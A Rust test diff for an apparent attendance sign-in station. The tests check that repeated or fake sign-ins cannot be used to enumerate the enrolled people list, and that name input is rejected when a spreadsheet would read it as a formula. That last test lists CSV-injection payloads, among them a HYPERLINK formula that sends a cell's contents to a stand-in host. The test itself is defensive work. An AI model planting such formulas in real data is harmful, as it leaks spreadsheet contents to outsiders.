@@ -255,3 +255,111 @@ fn without_its_list_the_station_finds_nobody_and_still_takes_new_people() {
     visit.step(Input::Stored, 0);
     assert_eq!(visit.screen(), &Screen::Thanks(Thanked::Called("Saba".to_owned())));
 }
+
+/// A station of forty people of whom no two fit the same letters.
+fn station_of_many(check: PrivateCheck) -> (Visit, Vec<String>) {
+    let syllables = ["ba", "do", "fi", "gu", "ke", "lo", "mi", "nu", "pa", "ri"];
+    let words: Vec<String> = (0..40).map(|at| [syllables[at % 10], syllables[(at / 10 + at) % 10], syllables[(at / 10 * 3 + at) % 10], "x"].concat()).collect();
+    let mut dataset = Dataset::default();
+    let mut add = |table: Table, cells: &[(&'static str, &str)]| {
+        let mut row = Row::default();
+        cells.iter().for_each(|(column, text)| row.set(*column, (*text).to_owned()));
+        assert!(dataset.put_row(table, &row).is_ok());
+    };
+    add(Table::Activities, &[("id", "club"), ("name", "Club"), ("type", "group")]);
+    add(Table::Sessions, &[("id", "s1"), ("activity_id", "club"), ("date", "2026-03-03"), ("status", "planned")]);
+    for (at, word) in words.iter().enumerate() {
+        let (id, name) = (format!("p{at}"), format!("{word} Family"));
+        add(Table::People, &[("id", &id), ("name", &name), ("date_of_birth", "1990-04-30")]);
+        add(
+            Table::Enrolments,
+            &[("id", &id), ("person_id", &id), ("activity_id", "club"), ("enrolled_on", "2026-01-01"), ("status", "enrolled")],
+        );
+    }
+    (Visit::new(list(&dataset, &SessionId::new("s1").unwrap(), check).ok()), words)
+}
+
+/// The same people are looked at one after the other, and before each `between` is done: how many of them are shown.
+fn read_off(check: PrivateCheck, mut between: impl FnMut(&mut Visit, usize)) -> usize {
+    let (mut visit, words) = station_of_many(check);
+    let mut seen = std::collections::BTreeSet::new();
+    for (at, word) in words.iter().enumerate() {
+        between(&mut visit, at);
+        visit.step(Input::Begun, 0);
+        visit.step(Input::Typed(word.clone()), 0);
+        seen.extend(shown(&visit));
+    }
+    seen.len()
+}
+
+fn do_all(visit: &mut Visit, inputs: impl IntoIterator<Item = Input>) {
+    inputs.into_iter().for_each(|input| drop(visit.step(input, 0)));
+}
+
+#[test]
+fn pressing_no_name_or_being_new_lets_nobody_read_the_list_off() {
+    for check in [PrivateCheck::Nothing, PrivateCheck::DayOfBirth] {
+        let alone = read_off(check, |_, _| {});
+        assert!((8..16).contains(&alone), "{alone}");
+        assert_eq!(read_off(check, |visit, _| do_all(visit, [Input::Begun, Input::Unnamed, Input::Stored])), alone);
+        let made_up = |at: usize, typed: &str| {
+            let id = PersonId::new(&format!("new{at}")).unwrap();
+            [Input::Begun, Input::IsNew, Input::Named(typed.to_owned(), id), Input::Stored]
+        };
+        assert_eq!(read_off(check, |visit, at| do_all(visit, made_up(at, "Somebody Else"))), alone);
+        // Nor does signing out those who were made up.
+        let leaves = read_off(check, |visit, at| {
+            do_all(visit, made_up(at, &format!("Qqq{at} Wxw")));
+            do_all(visit, [Input::Begun, Input::Typed(format!("qqq{at}")), Input::Leaving(0), Input::Answered(Answer::Nothing), Input::Stored]);
+        });
+        assert!(leaves <= alone, "{leaves}");
+        let wrong = read_off(check, |visit, _| do_all(visit, [Input::Answered(Answer::Birthday(1, 1)), Input::Stored, Input::Begun]));
+        assert!(wrong <= alone, "{wrong}");
+    }
+}
+
+#[test]
+fn one_person_who_signs_in_again_and_again_lets_nobody_read_the_list_off() {
+    let by = |check| {
+        let own = station_of_many(check).1[0].clone();
+        read_off(check, |visit, at| {
+            for way in [Input::Chosen(0), Input::Leaving(0)].into_iter().filter(|_| at % 4 == 3) {
+                do_all(visit, [Input::Begun, Input::Typed(own.clone()), way, Input::Answered(Answer::Birthday(30, 4)), Input::Stored]);
+            }
+        })
+    };
+    for (check, most) in [(PrivateCheck::Nothing, 16), (PrivateCheck::DayOfBirth, 32)] {
+        assert!(by(check) <= most, "{}", by(check));
+    }
+}
+
+#[test]
+fn whoever_waits_long_enough_looks_again_and_who_answers_rightly_at_once() {
+    let (mut visit, words) = station_of_many(PrivateCheck::DayOfBirth);
+    let look = |visit: &mut Visit, at: usize, now: u64| {
+        visit.step(Input::Begun, now);
+        visit.step(Input::Typed(words[at].clone()), now);
+        matches!(visit.screen(), Screen::Find(Some(Finding::Candidates(_))))
+    };
+    let seen = (0..40).filter(|at| look(&mut visit, *at, 0)).count();
+    assert!(seen < 40);
+    let later = 20 * 60 * 1000;
+    assert!((0..8).all(|at| look(&mut visit, at, later)));
+    assert_eq!(visit.wait_ms(later), 0);
+    visit.step(Input::Chosen(0), later);
+    assert!(visit.step(Input::Answered(Answer::Birthday(30, 4)), later).is_some());
+    visit.step(Input::Stored, later);
+    assert!((8..16).all(|at| look(&mut visit, at, later)));
+    assert_eq!(visit.wait_ms(later), 0);
+}
+
+#[test]
+fn what_a_spreadsheet_would_take_for_a_formula_is_no_name_at_the_station() {
+    for typed in ["=1+1", " =1", "+44", "-1", "@SUM(A1)", "\tSaba", "＝1", "＋", "－", "＠a", "\u{feff}=1", "=HYPERLINK(\"https://x/?\"&B2)"] {
+        let mut visit = visit(PrivateCheck::Nothing);
+        visit.step(Input::IsNew, 0);
+        assert_eq!(visit.step(Input::Named(typed.to_owned(), PersonId::new("new").unwrap()), 0), None, "{typed}");
+        assert_eq!(visit.screen(), &Screen::New);
+        assert!(visit.step(Input::Named("Saba = Tesfay-Haile".to_owned(), PersonId::new("new").unwrap()), 0).is_some(), "the control");
+    }
+}
